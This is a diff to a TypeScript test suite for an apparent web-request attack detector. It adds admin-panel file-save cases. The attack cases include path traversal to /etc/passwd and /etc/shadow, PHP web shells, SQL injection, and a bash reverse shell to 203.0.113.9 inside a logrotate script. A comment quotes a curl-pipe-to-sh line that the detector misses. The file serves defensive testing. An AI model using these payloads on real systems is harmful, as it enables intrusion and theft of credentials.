@@ -2,7 +2,8 @@
  * Issue 14, session 33 (adm33): the admin-save shapes recognised by route, method, content type and field shape —
  * the Wazuh dashboard's API proxy saving a rule file (detection-rules.ts isRuleFileProxySave), a form-encoded rule
  * text quoting an encoded pattern (gate.ts: its percent spelling), a Wazuh element an alert rule points at —
- * pass; the same attacks on the same routes in other fields, as other content types, and on ordinary routes dressed
+ * pass, and so do a panel's file saves named by route or query (file-save.ts) and a logrotate file's glob
+ * (sql-comments.ts); the same attacks on the same routes in other fields, as other content types, and on ordinary routes dressed
  * in the admin shape, are blocked.
  */
 import { testCarriers, type Carrier } from './carrier-verdicts.js';
@@ -45,7 +46,26 @@ const CARRIERS: Record<string, Carrier> = {
   // A rule's syntax form-encoded on an ordinary route.
   'search form rule text': form('shop.example.com', '/search', (v) => [['q', `alert http any any -> any any (msg:"LOCAL traversal"; content:"%252e%252e"; content:"${v}"; sid:1000001; rev:1;)`]]),
   'comment form wazuh': form('shop.example.com', '/comments/new', (v) => [['body', wazuhMatch(v)]]),
+  // Ajenti's write route (file-save.ts isFileWriteRoute): the route names the file, the body is its text.
+  'ajenti write': (v) => ({ method: 'POST', path: `/api/filesystem/write${v}`, query: '', headers: { Host: '10.0.4.12:8000', 'Content-Type': 'text/plain;charset=UTF-8', Origin: 'http://10.0.4.12:8000' }, body: REDIS_CONF }),
+  'ajenti write content': (v) => ({ method: 'POST', path: '/api/filesystem/write/var/www/html/status.php', query: '', headers: { Host: '10.0.4.12:8000', 'Content-Type': 'text/plain;charset=UTF-8' }, body: v }),
+  'ajenti route read': (v) => ({ method: 'GET', path: `/api/filesystem/write${v}`, query: '', headers: { Host: '10.0.4.12:8000', Accept: 'application/json' } }),
+  'ajenti route one line': (v) => ({ method: 'POST', path: `/api/filesystem/write${v}`, query: '', headers: { Host: '10.0.4.12:8000', 'Content-Type': 'text/plain' }, body: 'x=1' }),
+  'ajenti route as form': (v) => ({ method: 'POST', path: `/api/filesystem/write${v}`, query: '', headers: { Host: '10.0.4.12:8000', 'Content-Type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams([['content', REDIS_CONF]]).toString() }),
+  'other write route': (v) => ({ method: 'POST', path: `/api/files/write${v}`, query: '', headers: { Host: 'shop.example.com', 'Content-Type': 'text/plain' }, body: REDIS_CONF }),
+  // A panel's PUT naming the file in its query and its body (file-save.ts namesBodySaveLocation).
+  'panel put': (v) => ({ method: 'PUT', path: '/api/v1/files', query: `path=${encodeURIComponent(v)}`, headers: { Host: '10.0.4.12', 'Content-Type': 'application/json' }, body: JSON.stringify({ path: v, content: REDIS_CONF, mode: '0644' }) }),
+  'panel put other file': (v) => ({ method: 'PUT', path: '/api/v1/files', query: `path=${encodeURIComponent(v)}`, headers: { Host: '10.0.4.12', 'Content-Type': 'application/json' }, body: JSON.stringify({ path: '/etc/redis/redis.conf', content: REDIS_CONF, mode: '0644' }) }),
+  'panel get': (v) => ({ method: 'GET', path: '/api/v1/files', query: `path=${encodeURIComponent(v)}`, headers: { Host: '10.0.4.12', Accept: 'application/json' } }),
+  'panel put no content': (v) => ({ method: 'PUT', path: '/api/v1/files', query: `path=${encodeURIComponent(v)}`, headers: { Host: '10.0.4.12', 'Content-Type': 'application/json' }, body: JSON.stringify({ path: v, mode: '0644' }) }),
+  'download put': (v) => ({ method: 'POST', path: '/download', query: `file=${encodeURIComponent(v)}`, headers: { Host: 'shop.example.com', 'Content-Type': 'application/json' }, body: JSON.stringify({ file: v, note: 'a\nb\nc' }) }),
+  // A logrotate file saved through a panel's form (sql-comments.ts: its `/*.log` glob is no comment).
+  'file manager content': form('10.0.4.12:2083', '/cpsess1234567890/execute/Fileman/save_file_content', (v) => [['dir', '/etc/logrotate.d'], ['file', 'shop'], ['content', v], ['from_charset', 'UTF-8']]),
 };
+
+const REDIS_CONF = 'bind 127.0.0.1 ::1\nprotected-mode yes\nport 6379\ndaemonize yes\nlogfile /var/log/redis/redis-server.log\ndir /var/lib/redis\nmaxmemory 256mb\n';
+const LOGROTATE = (app: string, post: string): string =>
+  `/var/log/${app}/*.log {\n    daily\n    rotate 14\n    compress\n    delaycompress\n    missingok\n    notifempty\n    create 0640 www-data adm\n    sharedscripts\n    postrotate\n        ${post}\n    endscript\n}\n`;
 
 const SURICATA_ENCODED =
   "alert tcp any any -> $HTTP_SERVERS any (msg:\"LOCAL Directory traversal attempt\"; flow:established,to_server; content:\"%252e%252e\"; http_client_body;; classtype:web-application-attack; sid:9253593; rev:9;)\n" +
@@ -59,6 +79,13 @@ const BENIGN: [string, string][] = [
   ['wazuh rule match', 'document.cookie|/xmlrpc.php|boot.ini'],
   ['wazuh rule match', '/.aws/credentials|/etc/passwd'],
   ['suricata form rules', SURICATA_ENCODED],
+  ['ajenti write', '/etc/redis/redis.conf'],
+  ['ajenti write', '/etc/ssh/sshd_config'],
+  ['ajenti write', '/etc/httpd/conf.d/api.conf'],
+  ['panel put', '/etc/httpd/conf.d/api.conf'],
+  ['panel put', '/etc/default/intranet'],
+  ['file manager content', LOGROTATE('intranet', 'systemctl reload intranet > /dev/null 2>&1 || true')],
+  ['file manager content', LOGROTATE('shop', '[ -f /var/run/nginx.pid ] && kill -USR1 `cat /var/run/nginx.pid`')],
 ];
 
 const SQLI = "' UNION SELECT username, password FROM users-- ";
@@ -87,6 +114,33 @@ const ATTACKS: [string, string][] = [
   ['search form rule text', XSS],
   ['comment form wazuh', SQLI],
   ['comment form wazuh', XSS],
+  // The write route naming a never-mentioned file or a traversal, the file's text a web shell, the route read or sent a form.
+  ['ajenti write', '/etc/passwd'],
+  ['ajenti write', '/etc/shadow'],
+  ['ajenti write', '/proc/self/environ'],
+  ['ajenti write', '/var/www/html/%2e%2e/%2e%2e/%2e%2e/etc/passwd'],
+  ['ajenti write content', '<?php system($_GET["cmd"]); ?>'],
+  ['ajenti write content', '<?php\n$c = $_REQUEST["c"];\neval(base64_decode($c));\n?>'],
+  ['ajenti route read', '/etc/passwd'],
+  ['ajenti route one line', '/etc/passwd'],
+  ['ajenti route as form', '/etc/shadow'],
+  ['other write route', '/etc/passwd'],
+  // The query naming a never-mentioned file or a traversal, another file than the body, or a read.
+  ['panel put', '/etc/passwd'],
+  ['panel put', '../../../../etc/shadow'],
+  ['panel put other file', '/etc/passwd'],
+  ['panel put other file', '../../../../etc/shadow'],
+  ['panel get', '/etc/passwd'],
+  ['panel get', '../../../../etc/shadow'],
+  ['panel put no content', '/etc/passwd'],
+  ['download put', '/etc/passwd'],
+  ['download put', '../../../../../etc/shadow'],
+  // A logrotate file whose postrotate script runs a shell to an address, or SQL hidden after a glob.
+  ['file manager content', LOGROTATE('shop', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')],
+  // Not here: `curl -s http://203.0.113.9/x.sh | sh` as the postrotate line passes before (main 93c052d) and after — the
+  // model does not flag it inside the file's text; noticed in datasets/README.md (session 33, adm33), not fixed.
+  ['file manager content', `/var/log/shop/*.log ${SQLI}`],
+  ['search form rule text', `/var/log/x/*.log' UNION SELECT password FROM users--`],
 ];
 
 testCarriers('admin saves, session 33 (issue 14)', 'passes rule files saved through the Wazuh proxy and encoded rule texts', CARRIERS, BENIGN, ATTACKS);
